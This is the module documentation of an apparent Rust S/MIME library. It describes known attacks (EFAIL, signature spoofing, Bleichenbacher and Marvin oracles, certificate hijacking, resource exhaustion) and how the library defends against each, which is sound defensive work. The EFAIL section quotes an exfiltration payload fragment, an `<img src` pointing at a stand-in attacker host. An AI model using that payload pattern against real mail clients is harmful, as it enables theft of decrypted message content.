//! # Attacks, and how `smime` answers each
//!
//! Every byte of a received message may come from an attacker. The tests
//! in `tests/security/` hold one regression per attack named here.
//!
//! ## EFAIL (Poddebniak et al., USENIX Security 2018)
//!
//! CMS `EnvelopedData` with AES-CBC authenticates nothing: knowing one
//! plaintext block (every MIME entity starts with `Content-Type:`) lets an
//! attacker splice chosen blocks — an `<img src="https://attacker/...`
//! that exfiltrates the rest — into a message the victim decrypts.
//!
//! * [`Decrypted::authenticated`](crate::Decrypted::authenticated) is false
//!   for CBC: a client must not render active content of such a plaintext
//!   unless a valid signature *inside* the envelope covers it.
//! * AES-GCM `AuthEnvelopedData` is written whenever every recipient
//!   announced it (SMIMECapabilities learnt from their verified
//!   signatures); no GCM plaintext is returned unless the tag verifies, and
//!   a tag shorter than GCMParameters announce is refused (OpenSSL 3.0
//!   would accept one byte).
//! * CBC relabelled as AuthEnvelopedData, or an AEAD inside
//!   EnvelopedData, is refused as [`CmsError`](crate::CmsError): the
//!   "authenticated" flag cannot be forged by relabelling.
//! * The decrypted entity is returned on its own, never merged with the
//!   parts around the envelope.
//!
//! ## "Johnny, you are fired!" (Müller et al., USENIX Security 2019)
//!
//! 15 of 22 clients showed forged signatures as valid. Each class is a
//! typed outcome in the [`VerifyReport`](crate::VerifyReport), never folded
//! into "valid":
//!
//! * **CMS class** — no SignerInfo is [`Problem::NoSigners`](crate::Problem::NoSigners);
//!   every SignerInfo must verify; a `multipart/signed` whose CMS also
//!   embeds content is [`Problem::EmbeddedContent`](crate::Problem::EmbeddedContent);
//!   a non-`id-data` eContent is [`Problem::NotMimeContent`](crate::Problem::NotMimeContent);
//!   the signer's certificate is found strictly by `sid`, and every
//!   certificate matching it is tried (the certificate set is unsigned).
//! * **ID class** — a signer's certificate must name the `From` address
//!   (RFC 8550 §3, [`SignerReport::from_matches`](crate::SignerReport::from_matches)),
//!   by its subjectAltName (rfc822Name, or RFC 8398 SmtpUTF8Mailbox) when
//!   it has one — a subject `emailAddress` that differs from the SAN never
//!   counts; several `From` fields, several addresses, an address hidden
//!   in a display name or a comment, a look-alike `@` (U+FF20, U+FE6B, ⓐ)
//!   and RFC 2047 encoded-words that hide any of these (decoded with their
//!   charset first) are [`Problem`](crate::Problem)s. An encoded-word
//!   display name that hides nothing (`=?utf-8?B?SsO8cmdlbiBNw7xsbGVy?=`)
//!   is no problem.
//! * **Header protection spoofing** — a signed content that carries
//!   protected header fields (RFC 8551 §3.1 `message/rfc822` wrapping, the
//!   legacy `protected-headers` parameter, RFC 9788 `hp="clear"` /
//!   `hp="cipher"`) is what a client shows as the sender. Its header
//!   section is read whole, incrementally on both entry points, up to the
//!   header limit (beyond it: [`Problem::UncheckableProtectedHeader`](crate::Problem::UncheckableProtectedHeader),
//!   never a silent skip); its `From`/`Sender` is held to the same rules as
//!   the outer one ([`Problem::ProtectedHeader`](crate::Problem::ProtectedHeader))
//!   and must name a signer ([`Problem::InnerFromNotSigner`](crate::Problem::InnerFromNotSigner)).
//! * **MIME wrapping** — a signed part nested in unsigned content is
//!   [`Coverage::Part`](crate::Coverage::Part), and not valid.
//!
//! * **One engine** — [`verify`](crate::verify()) and
//!   [`verify_stream`](crate::verify_stream()) share the decision code, read
//!   opaque signed-data with the same walker and hash the same digests (the
//!   announced ones and SHA-256), so an attacker cannot pick the entry point
//!   that says valid; a differential test holds them to one verdict over
//!   the corpus and over a thousand mutations.
//!
//! ## Path validation and algorithm policy
//!
//! A signature is only as good as the path to the trust anchor:
//!
//! * Every CA of the path must allow S/MIME (OpenSSL's `smimesign`
//!   purpose, as `openssl cms -verify -purpose smimesign`; anyExtendedKeyUsage
//!   accepted): a leaf under a serverAuth-only sub-CA is
//!   `Untrusted(InvalidPurpose)` with the sub-CA named in
//!   [`SignerReport::chain_certificate`](crate::SignerReport::chain_certificate).
//! * MD5- or SHA-1-signed certificates anywhere on the path (a trust
//!   anchor's own self-signature aside), RSA keys under 2048 bits and
//!   curves under 256 bits are typed [`Weakness`](crate::Weakness)es at
//!   their depth, not valid unless allowed; an RSA key over 16384 bits is
//!   refused before any work, whatever is allowed.
//! * The SignerInfo's signatureAlgorithm must fit the signer's key: an RSA
//!   signature labelled ECDSA is [`SignatureFailure::KeyMismatch`](crate::SignatureFailure::KeyMismatch),
//!   never reported as ECDSA.
//!
//! ## Revoked certificates
//!
//! A stolen key stays "valid" until someone checks revocation. `smime`
//! checks every certificate of the path offline, as of the verification
//! time, against the CRLs and OCSP responses it is given
//! ([`VerifyOptions::with_crls`](crate::VerifyOptions::with_crls),
//! [`with_ocsp_responses`](crate::VerifyOptions::with_ocsp_responses)) and
//! those the message carries (SignedData `crls`, RFC 5940 OCSP responses).
//! A CRL counts only when signed by the certificate's issuer (a CRL of an
//! attacker's key with the issuer's name is ignored) and current; an OCSP
//! response only when signed by the issuing CA or a responder it
//! certified for OCSP signing, and fresh. A revoked certificate is
//! [`ChainStatus::Revoked`](crate::ChainStatus::Revoked) and never valid;
//! under the default [`RevocationPolicy::Soft`](crate::RevocationPolicy::Soft)
//! an unknown status is reported ([`Revocation::Unknown`](crate::Revocation::Unknown))
//! but does not make the message invalid, under `Hard` it does. No
//! network connection is opened: the report lists the CRL distribution
//! points and OCSP responders a caller may fetch
//! ([`SignerReport::revocation_urls`](crate::SignerReport::revocation_urls)).
//!
//! ## Marvin and Bleichenbacher (Kario, ESORICS 2023; CVE-2019-1563)
//!
//! RSA PKCS#1 v1.5 key transport leaks through errors and timing. Every
//! failure after a recipient was chosen is one
//! [`Error::DecryptionFailed`](crate::Error::DecryptionFailed); OpenSSL's CMS
//! layer substitutes a random content key when key transport fails, so
//! neither our error nor our code path depends on the padding (OpenSSL
//! 3.2+ also applies implicit rejection inside RSA). The pyca/cryptography
//! lesson (CVE-2026-69247) is why the error never names its cause. On
//! OpenSSL 3.0/3.1 the padding check's timing is OpenSSL's own: prefer
//! RSA-OAEP ([`KeyTransport::RsaOaep`](crate::KeyTransport::RsaOaep)) or EC
//! keys where peers support them.
//!
//! ## Signature stripping and downgrade
//!
//! A signed message turned into an unsigned one verifies as
//! [`Error::NotSigned`](crate::Error::NotSigned) — a client that expected a
//! signature (because the sender always signs) can say so. Capabilities
//! learnt from a signature are replaced only by those of a newer one
//! (RFC 8551 §2.7.1), so replaying old mail cannot downgrade the cipher.
//! Only trusted signers' certificates enter the recipient directory
//! ("Mailto: Me Your Secrets", 2020).
//!
//! ## Encryption hijack: a certificate that claims someone's address
//!
//! Anyone can make a self-signed certificate naming bob@example.org. If
//! the newest certificate filed under an address won, one such file
//! (mailed as an attachment, imported by a helpful user) would receive
//! Bob's mail and lock Bob out. The recipient directory remembers how it
//! learnt each certificate ([`Provenance`](crate::backend::Provenance):
//! added, learnt from a trusted signature, pinned by the user), and
//! [`Store::encryption_certificate`](crate::Store::encryption_certificate)
//! chooses only a *trusted* one: an own identity, one from a trusted
//! signature or pinned, or one that chains to a store trust anchor
//! ([`Store::add_trust_anchor`](crate::Store::add_trust_anchor)) with
//! e-mail protection on the whole path. Expired certificates and those a
//! stored CRL revokes are never chosen; an untrusted certificate never
//! displaces a trusted one, whatever its notBefore; an address with only
//! untrusted certificates is
//! [`Error::UntrustedRecipient`](crate::Error::UntrustedRecipient) naming
//! it, unless the caller asks for
//! [`RecipientLookup::allow_untrusted`](crate::RecipientLookup::allow_untrusted).
//! The provenance is part of the row's tag: raising it through SQL is
//! [`Error::StoreCorrupt`](crate::Error::StoreCorrupt). CRLs kept by the
//! store ([`Store::add_crl`](crate::Store::add_crl)) must verify under a
//! certificate the store already holds, and an older CRL never replaces a
//! newer one of its issuer, so neither a forged nor a replayed CRL can
//! un-revoke a certificate.
//!
//! ## Trial decryption as an oracle
//!
//! Some clients write wrong recipient identifiers, so a decryptor may try
//! each of its keys. Keeping a result only when the plaintext "looks like
//! MIME" makes the outcome depend on the first plaintext block, which the
//! IV controls bit for bit (EFAIL's malleability): flipping IV bits turns
//! success into "not encrypted for this mailbox", an oracle on that block.
//! Trial decryption is therefore off unless
//! [`DecryptOptions::trial_decryption`](crate::DecryptOptions::trial_decryption)
//! asks for it (without it, an envelope naming none of our certificates is
//! [`Error::NotForRecipient`](crate::Error::NotForRecipient) before any
//! private-key operation), and when on, only the signal every decryption
//! ends with picks a key: the CBC padding or the AEAD tag over the whole
//! content. The IV and the first blocks no longer change the outcome. Each
//! identity is tried on each key-transport RecipientInfo alone: OpenSSL's
//! no-certificate path decrypts every RecipientInfo and keeps the last
//! whose RSA padding is valid, so another RecipientInfo, conformant or
//! not, decided the outcome (a Bleichenbacher oracle); one pair at a time
//! it cannot. A wrong key passes the CBC padding check about once in 256
//! tries (OpenSSL's countermeasure decrypts with a random content key), so
//! a CBC pair is decrypted twice and kept only when both give the same
//! bytes, which a random key drawn afresh never does; the result is still
//! as unauthenticated as any CBC result. The cost is bounded by
//! [`Limits::max_trial_keys`](crate::Limits::max_trial_keys).
//!
//! That second decryption leaves a residual oracle with CBC: a crafted
//! RecipientInfo whose RSA ciphertext is conformant under our key (PKCS#1
//! v1.5, or OAEP decoding) yields the same wrong content key twice, so
//! about 1 in 256 trial decryptions of it succeeds (with garbage); a
//! non-conformant one gets a fresh random key each time (OpenSSL 3.0 has
//! no implicit rejection) and never does. Someone who sees whether trial
//! decryption succeeded gets a Bleichenbacher oracle about 256 times
//! slower than a direct one. AEAD content never passes its tag under a
//! wrong key: no such signal. Trial decryption stays off by default for
//! this reason.
//!
//! ## Denial of service: CPU and memory
//!
//! Deep BER, MIME nesting, certificate and RecipientInfo floods, PKCS#12
//! bundles asking for 10⁹ KDF iterations: each dimension has a bound in
//! [`Limits`](crate::Limits), checked before the work it would cost, and
//! going over one is [`Error::LimitExceeded`](crate::Error::LimitExceeded)
//! naming it. The parsers are fuzzed (`fuzz/`, seeded with every input of
//! `fixtures/hostile/`), and no path reachable from input may panic.
//!
//! Signatures cost public-key operations, and the certificate set of a
//! SignedData is not signed: anyone on the path may add certificates that
//! claim a signer's issuer and serial number, and each must be tried (the
//! first one that verifies is the signer). 16 SignerInfos × 64 such
//! certificates with RSA-16384 keys and a 64-bit public exponent cost
//! seconds of CPU per 256 KB message. Keys are bounded before any
//! operation — RSA moduli to 16 384 bits
//! ([`SignatureFailure::KeyTooLarge`](crate::SignatureFailure::KeyTooLarge)),
//! public exponents to 2³²+1
//! ([`SignatureFailure::ExponentTooLarge`](crate::SignatureFailure::ExponentTooLarge);
//! OpenSSL accepts 64 bits for large moduli, real keys use 65537), EC keys
//! to named curves
//! ([`SignatureFailure::UnsupportedCurve`](crate::SignatureFailure::UnsupportedCurve))
//! — and the operations of one SignedData share one budget,
//! [`Limits::max_signature_operations`](crate::Limits::max_signature_operations):
//! a message asking for more is refused as a whole, before any path
//! validation, rather than reported with some signers unchecked.
//!
//! Memory is bounded by what arrives, never by what a length field
//! declares (a 334-byte message once declared 250 MiB and got it); header
//! sections by [`Limits::max_header_params`](crate::Limits::max_header_params)
//! per field and [`Limits::max_header_bytes`](crate::Limits::max_header_bytes)
//! across the nested parts of one message (30 MB of nested parts with
//! megabyte parameter lists used to cost a gigabyte); and in-memory
//! verification holds the signed part once, for the report.
#![forbid(unsafe_code)]
